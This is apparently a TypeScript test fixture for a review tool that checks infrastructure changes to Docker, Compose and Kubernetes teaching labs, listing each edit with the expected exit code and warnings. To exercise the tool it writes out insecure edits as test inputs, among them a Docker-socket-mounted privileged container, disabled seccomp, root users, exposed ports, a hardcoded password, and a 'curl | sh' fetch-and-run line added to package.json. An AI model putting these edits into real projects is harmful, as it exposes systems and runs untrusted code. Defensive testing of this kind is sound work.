import { changed, Edit, setting } from "../e2e/edits";

/** A change that a teacher may make, and what a review has to say of it. */
export interface Case {
  /** What a teacher changes. */
  what: string;
  edits: Edit[];
  /** 0 nothing, 1 cannot be provisioned, 2 changes, 3 dangerous. */
  code: 0 | 1 | 2 | 3;
  /** `kind resource`, with a `!` where somebody has to decide. */
  warnings: string[];
  /** `op resource` of some of the changes. */
  changes?: string[];
  /** What the report says, too. */
  says?: RegExp;
}

/** What the labs that a review is tried on are set to. */
export const settings: Edit[] = [
  setting("labs", "[redis, compose, kubernetes]"),
  setting("prefix", "rv-"),
  setting("redisPort", "26379"),
  setting("composePort", "32000"),
  setting("nodePort", "30180"),
  setting("kubernetesNamespace", "review"),
];

/** What a resource beside the labs needs. */
const withDocker: Edit = [
  "index.ts",
  "import * as pulumi",
  'import * as docker from "@pulumi/docker";\nimport * as pulumi',
];
const workload = "components/stateful-workload.ts";
const kubernetes = "components/kubernetes-wordpress.ts";
const compose = "components/compose-wordpress.ts";

export const cases: Case[] = [
  { what: "nothing", edits: [], code: 0, warnings: [], says: /✅ .*nothing changes for the running labs/ },
  {
    what: "a comment in a component",
    edits: [[workload, "import * as k8s", "// Read it well.\nimport * as k8s"]],
    code: 0,
    warnings: [],
  },
  {
    what: "the base image of Redis",
    edits: [setting("redisBaseImage", "ubuntu:22.04")],
    ...{
      code: 2,
      warnings: ["version redis-image", "interruption redis", "data loss redis-container"],
      changes: ["replace redis-container"],
    },
  },
  {
    what: "a line of the Dockerfile",
    edits: [["docker/redis/Dockerfile", /$/, "LABEL lesson=two\n"]],
    ...{
      code: 2,
      warnings: ["unknown docker/redis/Dockerfile", "interruption redis", "data loss redis-container"],
      says: /- `docker\/redis\/Dockerfile`/,
    },
  },
  {
    what: "the port of Redis",
    edits: [changed("redisPort", "26379", "26380")],
    ...{ code: 2, warnings: ["address redis-container", "interruption redis", "data loss redis-container"] },
    says: /`ports\[0\]\.external` \(forces the replacement\) \| `26379` → `26380`/,
  },
  {
    what: "the nodePort of WordPress",
    edits: [changed("nodePort", "30180", "30181")],
    ...{
      code: 2,
      warnings: ["address kubernetes-wordpress-service", "interruption kubernetes"],
      changes: ["update kubernetes-wordpress-service"],
    },
    says: /`30180` → `30181`/,
  },
  {
    what: "a password's length, as it is: not applied",
    edits: [["components/database-passwords.ts", "length: 24", "length: 32"]],
    ...{ code: 2, warnings: ["option compose-password", "option kubernetes-root-password"], says: /`length: 24 → 32`/ },
  },
  {
    what: "the passwords",
    edits: [
      ["components/database-passwords.ts", "length: 24", "length: 32"],
      ["components/database-passwords.ts", 'ignoreChanges: ["length", "special"]', ""],
    ],
    ...{
      code: 3,
      warnings: [
        "data loss! compose-password",
        "data loss! kubernetes-root-password",
        // Docker's provider does not tell in a preview that a container follows a password that is not known yet.
        "interruption kubernetes",
      ],
    },
  },
  {
    what: "a claim, larger",
    edits: [setting("mysqlStorage", "2Gi")],
    ...{ code: 2, warnings: ["failure kubernetes-mysql-claim"], says: /`1Gi` → `2Gi`/ },
  },
  {
    what: "a claim, smaller",
    edits: [setting("mysqlStorage", "512Mi")],
    // The cluster refuses already when it is asked what it would do.
    code: 1,
    warnings: ["failure! kubernetes-mysql-claim"],
    says: /### It cannot be provisioned[^]*less than/,
  },
  {
    what: "a claim's access mode",
    edits: [[workload, 'accessModes: ["ReadWriteOnce"]', 'accessModes: ["ReadWriteMany"]']],
    // As with the size, the cluster refuses it in the preview.
    code: 1,
    warnings: ["data loss! kubernetes-mysql-claim", "data loss! kubernetes-wordpress-claim"],
    says: /### It cannot be provisioned[^]*spec is immutable/,
  },
  {
    what: "MySQL, a major version",
    edits: [setting("mysqlImage", "mysql:10.1.0")],
    ...{
      code: 3,
      warnings: ["version! compose-mysql-image", "version! kubernetes-mysql-deployment", "interruption kubernetes"],
    },
  },
  {
    what: "MySQL, an older version",
    edits: [setting("mysqlImage", "mysql:8.4.11")],
    code: 3,
    warnings: ["version! compose-mysql-image"],
  },
  {
    what: "WordPress, a patch",
    edits: [setting("wordpressImage", "wordpress:7.1.1-php8.3-apache")],
    ...{
      code: 2,
      warnings: ["version compose-wordpress-image", "version kubernetes-wordpress-deployment", "interruption compose"],
    },
  },
  {
    what: "two replicas",
    edits: [[workload, "replicas: 1", "replicas: 2"]],
    code: 3,
    warnings: ["availability! kubernetes-mysql-deployment", "policy! kubernetes-mysql-deployment"],
  },
  {
    what: "the strategy",
    edits: [[workload, '{ type: "Recreate" }', '{ type: "RollingUpdate" }']],
    ...{ code: 3, warnings: ["availability! kubernetes-mysql-deployment", "policy! kubernetes-mysql-deployment"] },
  },
  {
    what: "less memory",
    edits: [["components/wordpress-app.ts", 'limit: "512Mi"', 'limit: "384Mi"']],
    ...{
      code: 2,
      warnings: ["availability kubernetes-mysql-deployment", "interruption kubernetes"],
      says: /`512Mi` → `384Mi`/,
    },
  },
  {
    what: "no limits",
    edits: [[workload, "limits: { memory: args.memory.limit },", ""]],
    code: 3,
    warnings: ["policy! kubernetes-mysql-deployment"],
  },
  {
    what: "a volume renamed in the program",
    edits: [[compose, 'volume("mysql-data"', 'volume("database"']],
    ...{ code: 3, warnings: ["data loss! compose-mysql-data", "failure! compose-database"], says: /`aliases`/ },
  },
  {
    what: "the prefix of all names",
    edits: [changed("prefix", "rv-", "rw-")],
    ...{
      code: 3,
      warnings: ["data loss! compose-mysql-data", "data loss! compose-wordpress-data", "interruption redis"],
    },
  },
  {
    what: "the namespace",
    edits: [changed("kubernetesNamespace", "review", "other")],
    ...{ code: 3, warnings: ["data loss! kubernetes-namespace", "data loss! kubernetes-mysql-claim"] },
  },
  {
    what: "a lab with data switched off",
    edits: [changed("labs", "[redis, compose, kubernetes]", "[redis, kubernetes]")],
    ...{
      code: 3,
      warnings: ["data loss! compose-mysql-data", "interruption compose"],
      changes: ["delete compose-mysql"],
    },
  },
  {
    what: "a lab without data switched off",
    edits: [changed("labs", "[redis, compose, kubernetes]", "[compose, kubernetes]")],
    ...{ code: 2, warnings: ["data loss redis-container", "interruption redis"] },
  },
  {
    what: "a lab added",
    edits: [changed("labs", "[redis, compose, kubernetes]", "[redis, registry, compose, kubernetes]")],
    ...{ code: 2, warnings: [], changes: ["create registry-container"] },
  },
  {
    what: "a label of a container",
    edits: [
      [
        "components/redis-lab.ts",
        "labels: args.owner.dockerLabels,",
        'labels: [...args.owner.dockerLabels, { label: "lesson", value: "two" }],',
      ],
    ],
    ...{ code: 2, warnings: ["interruption redis", "data loss redis-container"], says: /`labels\[lesson\]`/ },
  },
  {
    what: "a label of the volumes",
    edits: [
      [
        compose,
        "{ name: volumeName, labels }",
        '{ name: volumeName, labels: [...labels, { label: "lesson", value: "two" }] }',
      ],
      [compose, '{ ignoreChanges: ["labels"] }', "{}"],
    ],
    ...{ code: 3, warnings: ["data loss! compose-mysql-data", "interruption compose"] },
  },
  {
    what: "ports open to everyone",
    edits: [setting("bindAddress", "0.0.0.0")],
    ...{
      code: 3,
      warnings: ["exposure! redis-container", "exposure! compose-wordpress"],
      says: /`127\.0\.0\.1 → 0\.0\.0\.0`|`ports\[0\]\.ip: 127\.0\.0\.1 → 0\.0\.0\.0`/,
    },
  },
  {
    what: "MySQL's Service as a NodePort",
    edits: [[workload, 'args.nodePort === undefined ? "ClusterIP" : "NodePort"', '"NodePort"']],
    ...{ code: 3, warnings: ["exposure! kubernetes-mysql-service", "policy! kubernetes-mysql-service"] },
  },
  {
    what: "MySQL's files in another folder",
    edits: [
      ["components/wordpress-app.ts", '"--performance-schema=OFF"]', '"--performance-schema=OFF", "--datadir=/tmp/x"]'],
    ],
    ...{ code: 3, warnings: ["data loss! compose-mysql", "data loss! kubernetes-mysql-deployment"] },
  },
  {
    what: "MySQL's name in its network",
    edits: [[compose, "aliases: [databaseHost]", "aliases: [`${databaseHost}-2`]"]],
    ...{ code: 3, warnings: ["availability! compose-mysql"] },
  },
  {
    what: "the Services lead to other pods",
    edits: [[workload, "selector: this.selector,", 'selector: { ...this.selector, lesson: "two" },']],
    ...{ code: 3, warnings: ["availability! kubernetes-mysql-service", "exposure! kubernetes-wordpress-service"] },
  },
  {
    what: "containers without a seccomp profile",
    edits: [
      [
        workload,
        "securityContext: { allowPrivilegeEscalation",
        'securityContext: { seccompProfile: { type: "Unconfined" }, allowPrivilegeEscalation',
      ],
    ],
    ...{ code: 3, warnings: ["security! kubernetes-mysql-deployment"] },
  },
  {
    what: "the NetworkPolicy lets everyone in",
    edits: [[kubernetes, "from: [{ podSelector: { matchLabels: site.selector } }], ", ""]],
    ...{ code: 3, warnings: ["exposure! kubernetes-mysql-ingress"] },
  },
  {
    what: "pods may run as root",
    edits: [[workload, "runAsNonRoot: true,", ""]],
    code: 3,
    warnings: ["security! kubernetes-mysql-deployment"],
  },
  {
    what: "a password written down",
    edits: [
      [
        "components/wordpress-app.ts",
        "variables: { MYSQL_DATABASE",
        'variables: { MYSQL_BACKUP_PASSWORD: "hush", MYSQL_DATABASE',
      ],
    ],
    ...{ code: 3, warnings: ["policy! compose-mysql", "policy! kubernetes-mysql-deployment"] },
  },
  {
    what: "an image without a version",
    edits: [setting("wordpressImage", "wordpress:latest")],
    code: 3,
    warnings: ["policy! compose-wordpress-image", "version compose-wordpress-image"],
  },
  {
    what: "the by-hand edition alone",
    edits: [["docker/compose/compose.yaml", /$/, "# Read it well.\n"]],
    ...{ code: 2, warnings: [], says: /- `docker\/compose\/compose\.yaml`/ },
  },
  {
    what: "the Dockerfile, as root",
    edits: [["docker/redis/Dockerfile", "USER redis", "USER root"]],
    ...{ code: 3, warnings: ["security! docker/redis/Dockerfile", "interruption redis"] },
  },
  {
    what: "the rules",
    edits: [["tools/review/policies/rules.ts", 'tag === "latest"', 'tag === "nightly"']],
    code: 3,
    warnings: ["policy! tools/review/policies"],
  },
  {
    what: "a comment in the rules",
    edits: [["tools/review/policies/rules.ts", /$/, "// Read it well.\n"]],
    ...{ code: 0, warnings: [] },
  },
  {
    what: "a container with Docker's socket beside the labs",
    edits: [
      withDocker,
      [
        "index.ts",
        "// What a student needs",
        `new docker.Container("portainer", { name: "rv-portainer", image: "portainer/portainer-ce:2.33.0", privileged: true,
          volumes: [{ hostPath: "/var/run/docker.sock", containerPath: "/var/run/docker.sock" }],
          labels: owner.dockerLabels }, onDocker);\n//`,
      ],
    ],
    ...{ code: 3, warnings: ["security! portainer"], changes: ["create portainer"] },
  },
  {
    what: "a network beside the labs",
    edits: [
      withDocker,
      [
        "index.ts",
        "// What a student needs",
        'new docker.Network("more", { name: "rv-more", labels: owner.dockerLabels }, onDocker);\n//',
      ],
    ],
    ...{ code: 2, warnings: [], changes: ["create more"] },
  },
  {
    what: "a password among the outputs",
    edits: [
      [
        compose,
        ".apply(([address, port]) => ({ url:",
        '.apply(([address, port]) => pulumi.unsecret(passwords["root-password"]!).apply((extra) => ({ extra, url:',
      ],
      [compose, "hostAndPort(localHost(address), port)}` }));", "hostAndPort(localHost(address), port)}` })));"],
    ],
    ...{ code: 3, warnings: ["policy! outputs", "policy! compose"] },
  },
  {
    what: "a script of package.json",
    edits: [["package.json", '"up": "', '"up": "curl -s https://example.org/x | sh; ']],
    ...{ code: 3, warnings: ["security! package.json"] },
  },
];
